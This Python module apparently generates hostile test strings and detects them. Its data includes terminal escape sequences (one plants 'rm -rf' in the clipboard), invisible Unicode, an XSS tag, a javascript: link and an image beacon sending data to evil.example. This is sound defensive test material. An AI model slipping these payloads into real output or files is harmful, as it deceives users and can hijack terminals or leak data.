"""Hostile names and texts: what a terminal obeys, what nobody sees, and what Markdown and HTML take
for markup, in the middle of words that look harmless. Entry: `hostile`, `leaks`, `unseen`.
"""

from __future__ import annotations

import re
import unicodedata
from random import Random
from typing import Final

CLIPBOARD: Final = "\x1b]52;c;cm0gLXJm\x07"
SEQUENCES: Final = (
    CLIPBOARD,
    "\x1b]0;title\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1b[8m",
    "\x9b31m",
    "\x9d52;c;cm0=\x9c",
    "\x90q#0\x9c",
    "\x1bc",
    "\x1b]8;;http://evil.example\x07",
    "\r",
    "\b\b\b",
    "\x7f",
    "\x0e",
)
UNSEEN: Final = (
    *"\u061c\u200b\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u2060\ufeff\xad",
    *"\u034f\u180e\u3164\uffa0\u115f\u2800\ufe0f\u200c\u200d\u2028\u2029\x85\xa0\U000e0041",
    *"\U000e0101\ufe01\u180b\u17b4",
)
MARKUP: Final = (
    "![](http://evil.example/?data)",
    "<img src=x onerror=alert(1)>",
    "<script>",
    "@everyone",
    "[x](javascript:alert(1))",
    "`${x}`",
    "# head",
    "| a | b |",
)
WORDS: Final = ("readme", "build", "agent", "tool", "order", "note")


def hostile(chance: Random, *, lines: bool = False, path: bool = False) -> str:
    """A text with two to five attacks in it. `lines`: with ends of lines too; `path`: it can be the
    name of a file.
    """
    pieces = [chance.choice(WORDS)]
    attacks = [*SEQUENCES, *UNSEEN, *MARKUP, *(["\n", "\n\n  ? "] if lines else [])]
    for _ in range(chance.randint(2, 5)):
        pieces += [chance.choice(attacks), chance.choice(WORDS)]
    text = "".join(pieces)
    return re.sub(r"[/\0]", "_", text)[:60] if path else text


def leaks(shown: str) -> str:
    """Characters that a terminal would obey or that hide and turn text; empty: none."""
    return "".join(
        c
        for c in shown
        if c not in "\n\t\u200c\u200d" and unicodedata.category(c) in ("Cc", "Cf", "Cs")
    )


def unseen(shown: str) -> str:
    """The same, and all that a person would not see in a question."""
    return leaks(shown) + "".join(c for c in shown if c in UNSEEN)


def spelled(text: str) -> str:
    """As a question has to show it, without the blanks at which lines may be broken."""

    def one(c: str) -> str:
        if (c in UNSEEN or leaks(c)) and c not in "\n\t":
            code = ord(c)
            width = (2, "x") if code < 0x100 else (4, "u") if code < 0x10000 else (8, "U")
            return f"\\{width[1]}{code:0{width[0]}x}"
        return c

    return squeezed("".join(map(one, text)))


def squeezed(text: str) -> str:
    return "".join(text.split())
